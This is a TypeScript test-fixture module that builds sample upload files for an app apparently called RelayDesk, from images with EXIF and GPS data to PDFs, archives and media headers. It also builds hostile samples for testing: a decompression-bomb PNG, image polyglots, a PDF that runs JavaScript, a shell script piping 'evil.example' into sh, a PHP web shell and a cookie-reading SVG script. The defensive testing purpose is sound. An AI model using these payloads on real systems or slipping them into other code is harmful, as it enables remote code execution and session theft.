import zlib from 'node:zlib';
import sharp from 'sharp';

/**
 * Real sample files, built byte by byte in the tests: images encoded by sharp, documents and
 * archives assembled from their specifications, media with the headers their players (and
 * file-type) recognise, and the hostile ones — executables, scripts, polyglots, bombs.
 */

// ---- checksums and byte helpers -------------------------------------------------------------

const CRC_TABLE = (() => {
  const table = new Uint32Array(256);
  for (let n = 0; n < 256; n++) {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    table[n] = c >>> 0;
  }
  return table;
})();

/** CRC-32 as PNG and ZIP use it. */
export function crc32(data: Buffer): number {
  let c = 0xffffffff;
  for (const byte of data) c = CRC_TABLE[(c ^ byte) & 0xff]! ^ (c >>> 8);
  return (c ^ 0xffffffff) >>> 0;
}

const u16le = (n: number) => {
  const b = Buffer.alloc(2);
  b.writeUInt16LE(n);
  return b;
};
const u32le = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32LE(n);
  return b;
};
const u32be = (n: number) => {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n);
  return b;
};
const ascii = (s: string) => Buffer.from(s, 'latin1');

// ---- images (sharp) -------------------------------------------------------------------------

/** A small picture with some structure (two colours), so re-encoding has real pixels to work on. */
function canvas(width: number, height: number) {
  const half = Math.max(1, Math.floor(width / 2));
  return sharp({ create: { width, height, channels: 3, background: { r: 220, g: 40, b: 40 } } }).composite([
    { input: { create: { width: half, height, channels: 3, background: { r: 30, g: 90, b: 200 } } }, left: 0, top: 0 },
  ]);
}

export const png = (width = 64, height = 48) => canvas(width, height).png().toBuffer();
export const jpeg = (width = 64, height = 48) => canvas(width, height).jpeg({ quality: 85 }).toBuffer();
export const gif = (width = 64, height = 48) => canvas(width, height).gif().toBuffer();
export const webp = (width = 64, height = 48) => canvas(width, height).webp({ quality: 80 }).toBuffer();

/** A two-frame animated GIF (frames `width` x `height`). */
export async function animatedGif(width = 16, height = 16): Promise<Buffer> {
  const frame = (r: number, b: number) => sharp({ create: { width, height, channels: 3, background: { r, g: 0, b } } }).png().toBuffer();
  return sharp([await frame(255, 0), await frame(0, 255)], { join: { animated: true } }).gif({ delay: [100, 100] }).toBuffer();
}

/** Strings written into the EXIF of `jpegWithExif`; none may survive in what is served. */
export const EXIF_MARKERS = { camera: 'RelayDeskTestCam-MARKER-7731', owner: 'Secret Owner MARKER-7731', comment: 'EXIF-COMMENT-MARKER-7731' };

/**
 * A JPEG carrying EXIF with identifying text (camera, artist, comment), a GPS position (the GPS
 * IFD) and an orientation (6: rotate 90° clockwise to display, so a 64x48 picture shows as 48x64).
 */
export function jpegWithExif(width = 64, height = 48, orientation = 6): Promise<Buffer> {
  return canvas(width, height)
    .jpeg({ quality: 90 })
    .withMetadata({ orientation })
    .withExif({
      IFD0: { Make: EXIF_MARKERS.camera, Model: EXIF_MARKERS.camera, Artist: EXIF_MARKERS.owner, Copyright: EXIF_MARKERS.owner, Orientation: String(orientation) },
      IFD2: { UserComment: EXIF_MARKERS.comment },
      IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '48/1 51/1 2959/100', GPSLongitudeRef: 'E', GPSLongitude: '2/1 17/1 4000/100', GPSAltitude: '35/1' },
    })
    .toBuffer();
}

/**
 * The tag ids of IFD0 of an EXIF block (as sharp's metadata().exif gives it: "Exif\0\0" then a
 * TIFF structure). 0x8825 is the pointer to the GPS IFD, 0x010f the camera make.
 */
export function exifIfd0Tags(exif: Buffer): number[] {
  const tiff = exif.subarray(0, 6).toString('latin1') === 'Exif\0\0' ? exif.subarray(6) : exif;
  const le = tiff.subarray(0, 2).toString('latin1') === 'II';
  const u16 = (o: number) => (le ? tiff.readUInt16LE(o) : tiff.readUInt16BE(o));
  const u32 = (o: number) => (le ? tiff.readUInt32LE(o) : tiff.readUInt32BE(o));
  const ifd = u32(4);
  return Array.from({ length: u16(ifd) }, (_, i) => u16(ifd + 2 + i * 12));
}
export const GPS_IFD_TAG = 0x8825;

/** Raw PNG from chunks: signature, then each chunk with its length and CRC. */
function pngFromChunks(chunks: Array<[string, Buffer]>): Buffer {
  const parts = [Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a])];
  for (const [type, data] of chunks) {
    const typed = Buffer.concat([ascii(type), data]);
    parts.push(u32be(data.length), typed, u32be(crc32(typed)));
  }
  return Buffer.concat(parts);
}

function ihdr(width: number, height: number, bitDepth: number, colourType: number): Buffer {
  return Buffer.concat([u32be(width), u32be(height), Buffer.from([bitDepth, colourType, 0, 0, 0])]);
}

/** A PNG with a tEXt chunk (keyword, text) right after its header, as editors write comments and authors. */
export async function pngWithText(keyword: string, value: string, width = 64, height = 48): Promise<Buffer> {
  const image = await png(width, height);
  const afterHeader = 8 + 8 + 13 + 4; // signature, IHDR length+type, IHDR data, CRC
  const typed = Buffer.concat([ascii('tEXt'), ascii(keyword), Buffer.from([0]), ascii(value)]);
  const chunk = Buffer.concat([u32be(typed.length - 4), typed, u32be(crc32(typed))]);
  return Buffer.concat([image.subarray(0, afterHeader), chunk, image.subarray(afterHeader)]);
}

/** A WebP carrying EXIF with a GPS position. */
export function webpWithExif(width = 64, height = 48): Promise<Buffer> {
  return canvas(width, height)
    .webp({ quality: 80 })
    .withExif({ IFD0: { Make: EXIF_MARKERS.camera, Artist: EXIF_MARKERS.owner }, IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '33/1 52/1 0/1', GPSLongitudeRef: 'E', GPSLongitude: '151/1 12/1 0/1' } })
    .toBuffer();
}

/**
 * A decompression bomb that is a perfectly valid PNG: `width` x `height` black pixels at one bit
 * each, which deflate to almost nothing (20000 x 20000 = 400 million pixels in ~50 KB).
 */
export function pngPixelBomb(width = 20_000, height = 20_000): Buffer {
  const row = Buffer.alloc(1 + Math.ceil(width / 8)); // filter byte 0, then all-zero pixels
  const raw = Buffer.alloc(row.length * height);
  const idat = zlib.deflateSync(raw, { level: 9 });
  return pngFromChunks([
    ['IHDR', ihdr(width, height, 1, 0)],
    ['IDAT', idat],
    ['IEND', Buffer.alloc(0)],
  ]);
}

/** A tiny PNG whose header claims `width` x `height`: the bomb that lies in its header alone. */
export function pngWithClaimedSize(width: number, height: number): Buffer {
  return pngFromChunks([
    ['IHDR', ihdr(width, height, 8, 2)],
    ['IDAT', zlib.deflateSync(Buffer.alloc(1 + 3 * 4))],
    ['IEND', Buffer.alloc(0)],
  ]);
}

/** A JPEG whose frame header (SOF0) claims `width` x `height` over a tiny real image. */
export async function jpegWithClaimedSize(width: number, height: number): Promise<Buffer> {
  const small = Buffer.from(await jpeg(8, 8));
  const sof = small.indexOf(Buffer.from([0xff, 0xc0]));
  if (sof < 0) throw new Error('no SOF0 marker in the sample JPEG');
  small.writeUInt16BE(height, sof + 5);
  small.writeUInt16BE(width, sof + 7);
  return small;
}

// ---- polyglots --------------------------------------------------------------------------------

/** A valid GIF that also carries `payload` in a comment extension block (read by no decoder). */
export async function gifWithComment(payload: string): Promise<Buffer> {
  const image = await gif(16, 16);
  const flags = image[10]!;
  const globalTable = flags & 0x80 ? 3 * 2 ** ((flags & 0x07) + 1) : 0;
  const at = 13 + globalTable;
  const data = ascii(payload);
  const blocks: Buffer[] = [Buffer.from([0x21, 0xfe])];
  for (let i = 0; i < data.length; i += 255) {
    const part = data.subarray(i, i + 255);
    blocks.push(Buffer.from([part.length]), part);
  }
  blocks.push(Buffer.from([0]));
  return Buffer.concat([image.subarray(0, at), ...blocks, image.subarray(at)]);
}

/** A valid JPEG with `payload` in a COM segment right after SOI. */
export async function jpegWithComment(payload: string): Promise<Buffer> {
  const image = await jpeg(16, 16);
  const data = ascii(payload);
  const segment = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from([(data.length + 2) >> 8, (data.length + 2) & 0xff]), data]);
  return Buffer.concat([image.subarray(0, 2), segment, image.subarray(2)]);
}

/** A valid image with `payload` appended after its end (after the GIF trailer / JPEG EOI). */
export const withTrailer = (image: Buffer, payload: string) => Buffer.concat([image, ascii(payload)]);

// ---- documents and archives ----------------------------------------------------------------

/** A minimal, valid one-page PDF with a correct cross-reference table. */
export function pdf(extraCatalog = ''): Buffer {
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R${extraCatalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 300 144] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>',
    streamObject('BT /F1 18 Tf 36 72 Td (RelayDesk test PDF) Tj ET'),
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  let out = '%PDF-1.4\n%\xe2\xe3\xcf\xd3\n';
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(Buffer.byteLength(out, 'latin1'));
    out += `${i + 1} 0 obj\n${body}\nendobj\n`;
  });
  const xref = Buffer.byteLength(out, 'latin1');
  out += `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) out += `${String(o).padStart(10, '0')} 00000 n \n`;
  out += `trailer\n<< /Size ${objects.length + 1} /Root 1 0 R >>\nstartxref\n${xref}\n%%EOF\n`;
  return Buffer.from(out, 'latin1');
}

function streamObject(content: string): string {
  return `<< /Length ${content.length} >>\nstream\n${content}\nendstream`;
}

/** A PDF that runs JavaScript when opened. */
export const pdfWithJavaScript = () => pdf(" /OpenAction << /S /JavaScript /JS (app.alert('pwned')) >>");

export const text = (content = 'Meeting notes\n\n- ship the uploads\n- café ☕ naïve 日本語\n') => Buffer.from(content, 'utf8');
export const csv = () => Buffer.from('id,name,amount\n1,Alice,10.50\n2,"Bob, Jr.",7\n3,Zoë,0\n', 'utf8');

/** A ZIP archive (stored, no compression) with a correct central directory. */
export function zip(entries: Array<[string, string | Buffer]>): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  const dosTime = 0x6000; // 12:00:00
  const dosDate = ((2024 - 1980) << 9) | (1 << 5) | 1; // 2024-01-01
  for (const [name, content] of entries) {
    const data = typeof content === 'string' ? Buffer.from(content, 'utf8') : content;
    const fileName = Buffer.from(name, 'utf8');
    const crc = crc32(data);
    const common = Buffer.concat([u16le(20), u16le(0x0800), u16le(0), u16le(dosTime), u16le(dosDate), u32le(crc), u32le(data.length), u32le(data.length), u16le(fileName.length), u16le(0)]);
    const local = Buffer.concat([u32le(0x04034b50), common, fileName, data]);
    centrals.push(Buffer.concat([u32le(0x02014b50), u16le(20), common, u16le(0), u16le(0), u16le(0), u32le(0), u32le(offset), fileName]));
    locals.push(local);
    offset += local.length;
  }
  const central = Buffer.concat(centrals);
  const end = Buffer.concat([u32le(0x06054b50), u16le(0), u16le(0), u16le(entries.length), u16le(entries.length), u32le(central.length), u32le(offset), u16le(0)]);
  return Buffer.concat([...locals, central, end]);
}

const OOXML = 'application/vnd.openxmlformats-officedocument';

/**
 * An Office Open XML package. file-type recognises one by its first entry, `[Content_Types].xml`,
 * whose main part's content type (`…document.main+xml`, `…sheet.main+xml`) names the format.
 */
function ooxml(mainPart: string, mainType: string, main: string, relType: string): Buffer {
  const contentTypes =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
    '<Default Extension="xml" ContentType="application/xml"/>' +
    `<Override PartName="/${mainPart}" ContentType="${mainType}"/>` +
    '</Types>';
  const rels =
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n' +
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
    `<Relationship Id="rId1" Type="${relType}" Target="${mainPart}"/>` +
    '</Relationships>';
  return zip([
    ['[Content_Types].xml', contentTypes],
    ['_rels/.rels', rels],
    [mainPart, main],
  ]);
}

const OFFICE_DOC_REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument';

export const docx = () =>
  ooxml(
    'word/document.xml',
    `${OOXML}.wordprocessingml.document.main+xml`,
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>RelayDesk test document</w:t></w:r></w:p></w:body></w:document>',
    OFFICE_DOC_REL,
  );

export const xlsx = () =>
  ooxml(
    'xl/workbook.xml',
    `${OOXML}.spreadsheetml.sheet.main+xml`,
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets><sheet name="Sheet1" sheetId="1"/></sheets></workbook>',
    OFFICE_DOC_REL,
  );

/** A macro-enabled Word document (.docm): the same package with the macro-enabled main part type. */
export const docm = () =>
  ooxml(
    'word/document.xml',
    'application/vnd.ms-word.document.macroEnabled.main+xml',
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body/></w:document>',
    OFFICE_DOC_REL,
  );

export const plainZip = () => zip([['notes/hello.txt', 'hello from a zip\n'], ['data.csv', 'a,b\n1,2\n']]);

/** A Java archive: a zip whose manifest makes it runnable. */
export const jar = () => zip([['META-INF/MANIFEST.MF', 'Manifest-Version: 1.0\nMain-Class: Evil\n'], ['Evil.class', Buffer.from([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52])]]);

// ---- audio and video ------------------------------------------------------------------------

/** EBML (Matroska/WebM) header with DocType `webm`, then the start of a Segment. */
export function webm(): Buffer {
  const el = (id: number[], data: Buffer) => Buffer.concat([Buffer.from(id), Buffer.from([0x80 | data.length]), data]);
  const header = Buffer.concat([
    el([0x42, 0x86], Buffer.from([1])), // EBMLVersion
    el([0x42, 0xf7], Buffer.from([1])), // EBMLReadVersion
    el([0x42, 0xf2], Buffer.from([4])), // EBMLMaxIDLength
    el([0x42, 0xf3], Buffer.from([8])), // EBMLMaxSizeLength
    el([0x42, 0x82], ascii('webm')), // DocType
    el([0x42, 0x87], Buffer.from([4])), // DocTypeVersion
    el([0x42, 0x85], Buffer.from([2])), // DocTypeReadVersion
  ]);
  const ebml = Buffer.concat([Buffer.from([0x1a, 0x45, 0xdf, 0xa3, 0x80 | header.length]), header]);
  // Segment of unknown size with an Info element (TimecodeScale 1 ms); the media data is zeros.
  const info = el([0x2a, 0xd7, 0xb1], Buffer.from([0x0f, 0x42, 0x40]));
  const segment = Buffer.concat([Buffer.from([0x18, 0x53, 0x80, 0x67, 0x01, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff]), Buffer.from([0x15, 0x49, 0xa9, 0x66, 0x80 | info.length]), info]);
  return Buffer.concat([ebml, segment, Buffer.alloc(512)]);
}

/** One Ogg page (CRC left zero: detection does not check it) carrying `packet`. */
function oggPage(packet: Buffer): Buffer {
  const header = Buffer.concat([ascii('OggS'), Buffer.from([0, 0x02]), Buffer.alloc(8), u32le(0x52445331), u32le(0), u32le(0), Buffer.from([1, packet.length])]);
  return Buffer.concat([header, packet]);
}

/** Ogg Vorbis: the identification header packet. */
export function oggVorbis(): Buffer {
  const id = Buffer.concat([Buffer.from([0x01]), ascii('vorbis'), u32le(0), Buffer.from([1]), u32le(44_100), u32le(0), u32le(96_000), u32le(0), Buffer.from([0xb8, 0x01])]);
  return Buffer.concat([oggPage(id), Buffer.alloc(256)]);
}

/** Ogg Opus, what Firefox's MediaRecorder produces for a voice message. */
export function oggOpus(): Buffer {
  const head = Buffer.concat([ascii('OpusHead'), Buffer.from([1, 1]), u16le(312), u32le(48_000), u16le(0), Buffer.from([0])]);
  return Buffer.concat([oggPage(head), Buffer.alloc(256)]);
}

/** MP3: an ID3v2.4 tag with a title, then MPEG-1 Layer III frames (128 kbit/s, 44.1 kHz, silence). */
export function mp3(): Buffer {
  const title = Buffer.concat([Buffer.from([3]), ascii('RelayDesk voice')]);
  const frame = Buffer.concat([ascii('TIT2'), u32be(title.length), Buffer.from([0, 0]), title]);
  const size = frame.length;
  const syncsafe = Buffer.from([(size >> 21) & 0x7f, (size >> 14) & 0x7f, (size >> 7) & 0x7f, size & 0x7f]);
  const id3 = Buffer.concat([ascii('ID3'), Buffer.from([4, 0, 0]), syncsafe, frame]);
  const mpegFrame = Buffer.concat([Buffer.from([0xff, 0xfb, 0x90, 0x64]), Buffer.alloc(417 - 4)]);
  return Buffer.concat([id3, mpegFrame, mpegFrame, mpegFrame]);
}

/** An ISO-BMFF `ftyp` box with `brand`, then an empty `free` box and an `mdat` of zeros. */
function isoMedia(brand: string, compatible: string[]): Buffer {
  const body = Buffer.concat([ascii(brand), u32be(0), ...compatible.map(ascii)]);
  const ftyp = Buffer.concat([u32be(8 + body.length), ascii('ftyp'), body]);
  const mdat = Buffer.concat([u32be(8 + 256), ascii('mdat'), Buffer.alloc(256)]);
  return Buffer.concat([ftyp, u32be(8), ascii('free'), mdat]);
}

export const m4a = () => isoMedia('M4A ', ['M4A ', 'mp42', 'isom']);
export const mp4 = () => isoMedia('isom', ['isom', 'iso2', 'avc1', 'mp41']);

/** A real PCM WAV: mono, 8 kHz, 16-bit, `samples` of the given bytes (a ramp by default). */
export function wav(data: Buffer = Buffer.from(Array.from({ length: 2000 }, (_, i) => i % 256))): Buffer {
  const fmt = Buffer.concat([u16le(1), u16le(1), u32le(8000), u32le(16_000), u16le(2), u16le(16)]);
  const body = Buffer.concat([ascii('WAVE'), ascii('fmt '), u32le(fmt.length), fmt, ascii('data'), u32le(data.length), data]);
  return Buffer.concat([ascii('RIFF'), u32le(body.length), body]);
}

// ---- executables and scripts ----------------------------------------------------------------

/** A Windows PE: DOS header ("MZ", e_lfanew), the "PE\0\0" signature and a COFF header. */
export function peExecutable(): Buffer {
  const b = Buffer.alloc(512);
  b.write('MZ', 0, 'latin1');
  b.write('This program cannot be run in DOS mode.', 0x4e, 'latin1');
  b.writeUInt32LE(0x80, 0x3c);
  b.write('PE\0\0', 0x80, 'latin1');
  b.writeUInt16LE(0x8664, 0x84); // machine: x86-64
  b.writeUInt16LE(1, 0x86); // sections
  b.writeUInt16LE(0xf0, 0x94); // optional header size
  b.writeUInt16LE(0x22, 0x96); // characteristics: executable, large-address aware
  b.writeUInt16LE(0x20b, 0x98); // PE32+
  return b;
}

/** A Linux ELF64 executable header (x86-64, ET_EXEC). */
export function elfExecutable(): Buffer {
  const b = Buffer.alloc(256);
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]).copy(b, 0);
  b.writeUInt16LE(2, 16); // e_type: EXEC
  b.writeUInt16LE(0x3e, 18); // e_machine: x86-64
  b.writeUInt32LE(1, 20); // e_version
  b.writeBigUInt64LE(0x401000n, 24); // e_entry
  b.writeUInt16LE(64, 52); // e_ehsize
  return b;
}

/** A macOS Mach-O 64-bit executable header (x86-64, MH_EXECUTE). */
export function machOExecutable(): Buffer {
  const b = Buffer.alloc(256);
  b.writeUInt32LE(0xfeedfacf, 0);
  b.writeUInt32LE(0x01000007, 4); // CPU_TYPE_X86_64
  b.writeUInt32LE(3, 8);
  b.writeUInt32LE(2, 12); // MH_EXECUTE
  return b;
}

export const shebangScript = () => Buffer.from('#!/bin/sh\ncurl -s http://evil.example/x | sh\n', 'utf8');
export const phpScript = () => Buffer.from('<?php system($_GET["cmd"]); ?>\n', 'utf8');
export const svg = (script = true) =>
  Buffer.from(
    `<?xml version="1.0" encoding="UTF-8"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">${script ? '<script>alert(document.cookie)</script>' : ''}<rect width="10" height="10" fill="red"/></svg>\n`,
    'utf8',
  );
export const html = () => Buffer.from('<!DOCTYPE html>\n<html><head><title>hi</title></head><body><h1>Totally a text file</h1></body></html>\n', 'utf8');
